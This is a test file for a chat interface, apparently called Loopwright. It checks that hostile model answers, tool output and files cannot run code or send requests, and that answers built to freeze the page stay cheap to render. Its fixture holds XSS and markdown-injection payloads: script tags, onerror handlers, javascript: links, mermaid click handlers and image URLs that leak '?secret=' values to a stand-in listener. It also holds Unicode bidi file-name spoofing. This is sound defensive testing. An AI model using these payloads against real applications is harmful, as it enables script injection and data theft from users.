/**
 * Text from a model, a tool or a file is only displayed: it cannot run code or send a request
 * (V10-V13 in faults.md).
 */
import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, test } from 'vitest';
import { longAnswer } from '../bench/long-answer.ts';
import { mainThreadDuring } from '../bench/main-thread.ts';
import { call, say, toolName } from '../fixtures/scripted-openai.ts';
import { startApp } from './app.ts';
import { sharedBrowser } from './browser.ts';

const browser = await sharedBrowser();

/** Starts a local server that records the requests it receives. The page must send none. */
async function listener() {
  const heard: string[] = [];
  const server = createServer((request, response) => {
    heard.push(request.url ?? '');
    response.writeHead(200, { 'Access-Control-Allow-Origin': '*' }).end('window.taken = true');
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  // The address of a listening TCP server is an object that contains the port.
  const { port } = server.address() as AddressInfo;
  return { heard, url: `http://127.0.0.1:${port}`, [Symbol.dispose]: () => void server.close() };
}

const hostile = (evil: string): string => `Look at this.

<script src="${evil}/script.js"></script><script>window.taken = true</script>
<img src=x onerror="window.taken = true"> <img src="${evil}/raw.png">
<svg onload="window.taken = true"><image href="${evil}/svg.png"/></svg>
<iframe srcdoc="<script>parent.taken = true</script>"></iframe>
<link rel="stylesheet" href="${evil}/style.css"> <!-- <img src="${evil}/comment.png"> -->

![inline](${evil}/inline.png?secret=1) and ![by reference][picture] and ![svg](data:image/svg+xml;base64,PHN2Zy8+)

[picture]: ${evil}/reference.png?secret=2

[script](javascript:window.taken=true) [page](data:text/html,<script>opener.taken=true</script>) [share](smb://server/share)
[good](${evil}/good)

$$\\href{javascript:window.taken=true}{x} \\includegraphics{${evil}/math.png}$$

\`\`\`mermaid
graph TD
  A[Start] --> B["<img src='${evil}/mermaid.png' onerror='parent.taken=true'>"]
  click A "javascript:parent.taken=true"
  click B href "${evil}/click"
\`\`\`

\`\`\`mermaid
graph TD
  C@{ img: "${evil}/shape.png", label: "C" }
\`\`\`

The end.`;

/**
 * The requests and scripts that mermaid tries for this diagram inside its frame. The content
 * security policy of the frame blocks them.
 */
const REFUSED_IN_FRAME = [
  /^console: Executing inline event handler violates the following Content Security Policy directive 'script-src/,
  /^console: Loading the image '\S+\/shape\.png' violates the following Content Security Policy directive: "img-src data:"/,
  /^request to \S+\/shape\.png$/,
];

test('a hostile answer, file and diagram send no request and run no code (V11, V12, V13)', async () => {
  using evil = await listener();
  const text = hostile(evil.url);
  await using app = await startApp(browser, {
    files: { 'note.md': `${text}\n\u001b[31mred\u001b[0m \u202egnp.exe\u200b\n` },
    script: (request, n) =>
      n === 0
        ? call(toolName(request, 'read_file'), { path: 'note.md' })
        : n === 1
          ? say(text)
          : call(toolName(request, 'attempt_completion'), { result: text, command: `echo ${'\u202e'}hidden` }),
  });
  const { page, problems } = await app.open({ expected: REFUSED_IN_FRAME });
  page.on('dialog', (dialog) => {
    evil.heard.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  await page.getByRole('textbox', { name: 'Message' }).fill('Read the \u202enote\u2066 \u009bnow');
  await page.keyboard.press('Enter');

  // The title of the window has no place to show such characters, so it leaves them out.
  await expect.poll(() => page.title()).toMatch(/^(\(\d\) )?Read the note now – Loopwright$/);
  const done = page.locator('[data-state="done"]').last();
  await done.getByText('The end.').waitFor();
  // The diagram is drawn in its frame without the links and scripts that its source contains.
  const frame = done.frameLocator('iframe').first();
  await frame.locator('svg').first().waitFor();
  expect(await frame.locator('a').count()).toBe(0);

  expect(await done.innerText()).toMatch(/echo\s*U\+202E\s*hidden/);

  expect(await done.locator('a').evaluateAll((links) => links.map((link) => link.getAttribute('href')))).toEqual(
    expect.arrayContaining([`${evil.url}/good`]),
  );
  for (const link of await page.locator('[role="log"] a').all()) {
    expect(await link.getAttribute('href')).toMatch(/^http:\/\/127\.0\.0\.1:/);
    expect(await link.getAttribute('rel')).toBe('noopener noreferrer');
  }
  await page.getByRole('log').evaluate((log) => log.scrollTo({ top: 0 }));
  const read = page.getByRole('group', { name: /^Read note\.md/ });
  await read.getByRole('button', { name: /Read/ }).click();
  await read.getByText('\\u{1b}[31mred').waitFor();
  await expect.poll(() => read.innerText()).toContain('\\u{202e}gnp.exe');
  expect(await page.evaluate('window.taken')).toBeUndefined();
  expect(evil.heard).toEqual([]);
  expect(problems).toEqual([]);
});

test('answers that are built to freeze the page cost little more than others, and Stop works while one streams', async () => {
  const length = 12_000;
  const answers = [longAnswer(length), ...['_a**', '[a](', '\\'].map((unit) => unit.repeat(length / unit.length))];
  await using app = await startApp(browser, {
    script: (_, n) => {
      const text = answers[n];
      if (text === undefined) return { text: '_a**'.repeat(2_000), pieceLength: 80, betweenMs: 2, stallAfter: 60 };
      return say(`${text}\n\nEnd ${n}.`, { pieceLength: 80, betweenMs: 2 });
    },
  });
  const { page } = await app.open();
  const work: number[] = [];
  for (const n of answers.keys()) {
    await page.getByRole('textbox', { name: 'Message' }).fill(`Answer ${n}`);
    const { worked } = await mainThreadDuring(page, async () => {
      await page.keyboard.press('Enter');
      await page.getByText(`End ${n}.`).first().waitFor();
    });
    work.push(worked);
  }
  const [ordinary = 0, ...hostile] = work;
  // The first of these once took 88 s, which was 100 times as long as the ordinary answer.
  for (const worked of hostile) expect(worked).toBeLessThan(6 * ordinary);
  await page.getByText('Some of this text is shown without formatting').first().waitFor();
  await page.getByRole('textbox', { name: 'Message' }).fill('And more');
  await page.keyboard.press('Enter');
  await expect.poll(() => app.model.requests.length).toBe(answers.length + 1);
  await page.getByRole('button', { name: /^Stop/ }).first().click();
  await expect.poll(() => app.model.requests.at(-1)?.aborted).toBe(true);
});
